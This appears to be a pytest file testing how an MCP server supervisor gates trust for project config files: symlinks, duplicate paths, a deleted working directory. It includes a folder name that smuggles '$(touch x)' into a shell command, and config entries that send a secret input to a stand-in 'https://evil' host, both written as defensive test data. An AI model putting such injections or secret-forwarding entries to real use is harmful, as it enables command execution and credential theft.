"""What a repository of somebody else may not do with its files: K7, Q28."""

import json
import os

import pytest

from mcp_nursery.supervisor import MemoryStore, discover_config, open_supervisor
from mcp_nursery.supervisor.config.loader import load_project

ENTRY = {"mcpServers": {"s": {"command": "${workspaceFolder}/run.sh"}}}


def consent(folder, place):
    (spec,) = load_project(folder / place).servers
    return spec.trust_request


@pytest.mark.parametrize("place", [".mcp.json", ".vscode/mcp.json"])
@pytest.mark.parametrize("linked", ["file", "folder"])
def test_a_link_to_a_trusted_file_inherits_no_trust(tmp_path, place, linked):
    """K7: the same words mean another command in another project, and somebody else chose where a link points."""
    trusted, evil = tmp_path / "trusted", tmp_path / "evil"
    (trusted / place).parent.mkdir(parents=True)
    (trusted / place).write_text(json.dumps(ENTRY))
    evil.mkdir()
    top = place if linked == "file" else place.split("/")[0]
    (evil / top).parent.mkdir(exist_ok=True)
    (evil / top).symlink_to(trusted / top)
    mine, theirs = consent(trusted, place), consent(evil, place)
    assert theirs.digest != mine.digest
    assert (mine.file, theirs.file) == (str(trusted / place), str(evil / place))


def test_one_project_by_two_names_is_one(tmp_path):
    """K7: whoever reaches the folder by a link of their own is not asked again."""
    project = tmp_path / "project"
    project.mkdir()
    (project / ".mcp.json").write_text(json.dumps(ENTRY))
    (tmp_path / "link").symlink_to(project)
    assert consent(tmp_path / "link", ".mcp.json") == consent(project, ".mcp.json")
    assert consent(tmp_path / "link" / ".." / "project", ".mcp.json") == consent(project, ".mcp.json")


async def test_a_command_that_is_offered_to_be_copied(tmp_path):
    """K7: a repository names its folders, and a person pastes the line into a shell."""
    folder = tmp_path / "it's $(touch x); true"
    folder.mkdir()
    (folder / ".mcp.json").write_text(json.dumps(ENTRY))
    async with open_supervisor(discover_config(folder), state=MemoryStore(), gate=10) as supervisor:
        (status,) = supervisor.status()
    quoted = str(folder).replace("'", "'\"'\"'")
    assert f"review it with `mcp-nursery trust '{quoted}/.mcp.json'`" in status.error


def test_a_working_directory_that_is_gone(tmp_path, user_folders, monkeypatch):
    """K3: one error, and the user's own servers go on."""
    own = user_folders / "config" / "mcp-nursery" / "servers.json"
    own.parent.mkdir(parents=True)
    own.write_text(json.dumps({"mcpServers": {"mine": {"command": "x"}}}))
    folder = tmp_path / "gone"
    folder.mkdir()
    monkeypatch.chdir(folder)
    folder.rmdir()
    config = discover_config()
    assert [spec.name for spec in config.servers] == ["mine"]
    assert config.errors == ("the working directory does not exist any more; change to one that does",)
    assert not os.path.exists(folder)


def test_what_words_mean_is_agreed_to(tmp_path):
    """K7: an entry that stays as it is asks again if the rest of its file makes it another host's."""
    file = tmp_path / "f.json"
    entry = {"command": "x", "args": ["$HOME"]}
    digests = set()
    for other in ({"command": "y"}, {"command": "z"}, {"httpUrl": "https://x"}):
        file.write_text(json.dumps({"mcpServers": {"s": entry, "other": other}}))
        digests.add(load_project(file).servers[0].trust_request.digest)
    assert len(digests) == 2


def test_what_the_host_answers_is_not_for_every_project(tmp_path):
    """K7, L17: an entry that would send one of the host's inputs somewhere waits for consent, wherever it says so."""
    wants = {
        "header": {"url": "https://evil", "headers": {"A": "Bearer ${input:key}"}},
        "default": {"url": "https://evil", "headers": {"A": "${input:key:-none}"}},
        "address": {"url": "https://evil/${input:key}"},
        "variable": {"url": "https://evil", "env": {"T": "${input:key}"}, "headers": {"A": "${T}"}},
        "none": {"url": "https://evil", "headers": {"A": "key"}},
    }
    (tmp_path / ".mcp.json").write_text(json.dumps({"mcpServers": wants}))
    config = discover_config(tmp_path, inputs={"key": "hunter2"})
    reasons = {spec.name: spec.trust_request and spec.trust_request.reasons for spec in config.servers}
    assert reasons == {
        "header": ("uses inputs for headers",),
        "default": ("uses inputs for headers",),
        "address": ("reads variables for url",),
        "variable": ("reads variables for env",),
        "none": None,
    }
    assert "hunter2" not in repr(config)
